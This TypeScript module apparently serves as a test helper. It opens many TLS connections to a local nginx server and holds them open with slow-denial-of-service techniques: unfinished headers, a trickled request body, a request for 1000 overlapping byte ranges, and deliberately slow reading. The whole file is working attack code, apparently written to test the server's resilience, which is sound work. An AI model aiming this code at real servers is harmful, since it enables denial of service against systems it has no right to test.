import { connect, type TLSSocket } from 'node:tls'
import { setTimeout as pause } from 'node:timers/promises'
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads'

/**
 * What a connection does: it never ends its header; it never ends its body; it asks for every byte
 * several times over; or it asks for much and takes it in as slowly as it may.
 */
export type Slowness = 'headers' | 'body' | 'ranges' | 'reading'

interface Plan {
  slowness: Slowness
  port: number
  connections: number
  /** What slow readers ask for: large answers. */
  paths: string[]
}

/** A second, so that a thousand take some seconds to come, and no handshake has to wait. */
const OPENED_PER_SECOND = 200

/**
 * Seconds between two chunks of 64 kB that a slow reader takes. Slower ones are let go: a third of
 * what nginx may have under way has to be taken in before it can send again, within its 10 s.
 */
const READ_EVERY = 2

const RANGES = Array.from({ length: 1000 }, (_, end) => `5-${end + 5}`).join()

function opening({ slowness, paths }: Plan, index: number): string {
  const head = (line: string) => `${line} HTTP/1.1\r\nHost: localhost\r\n`
  switch (slowness) {
    case 'headers':
      return head('GET /')
    case 'body':
      return `${head('POST /api/contacts')}Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n`
    case 'ranges':
      return `${head('GET /')}Range: bytes=${RANGES}\r\n\r\n`
    case 'reading':
      // Many at once: what the kernel holds for both ends has to be full before anybody waits.
      return `${head(`GET ${paths[index % paths.length]}`)}\r\n`.repeat(20)
  }
}

async function attack(plan: Plan) {
  const sockets: (TLSSocket | undefined)[] = Array.from({ length: plan.connections })
  let opened = 0
  const open = (index: number) => {
    opened += 1
    const socket = connect({
      host: '127.0.0.1',
      port: plan.port,
      servername: 'localhost',
      rejectUnauthorized: false,
    })
    sockets[index] = socket
    socket.on('error', () => {})
    // At once: it waits for the handshake, and whatever is written next waits behind it.
    socket.write(opening(plan, index))
    socket.on('close', () => (sockets[index] = undefined))
    if (plan.slowness !== 'reading') socket.resume()
  }
  let second = 0
  setInterval(() => {
    second += 1
    for (const [index, socket] of sockets.entries()) {
      if (!socket || socket.connecting) continue
      // One that was let go says so only to who reads.
      if (plan.slowness === 'reading' && (index + second) % READ_EVERY === 0) socket.read()
      if (!socket.writable) continue
      if (plan.slowness === 'headers') socket.write('X-Slow: a\r\n')
      if (plan.slowness === 'body') socket.write('a')
      if (plan.slowness === 'ranges' && (index + second) % 10 === 0) {
        socket.write(opening(plan, index))
      }
    }
    parentPort!.postMessage(opened)
  }, 1000)
  // Whoever is let go comes back, so the crowd stays as large as it is.
  for (;;) {
    for (let index = 0; index < sockets.length; index += 1) {
      if (sockets[index]) continue
      open(index)
      if (opened % 10 === 0) await pause(10_000 / OPENED_PER_SECOND)
    }
    await pause(50)
  }
}

/** Clients that hold connections of nginx for nothing, in a thread of their own. */
export class SlowCrowd {
  #worker: Worker
  /** Connections made so far; more than there are at a time, as the server lets go of some. */
  opened = 0

  constructor(plan: Plan) {
    this.#worker = new Worker(new URL(import.meta.url), { workerData: plan })
    this.#worker.on('message', (opened: number) => (this.opened = opened))
  }

  /** Hangs up on the server, all at once. */
  async leave() {
    await this.#worker.terminate()
  }
}

if (!isMainThread && parentPort) await attack(workerData as Plan)
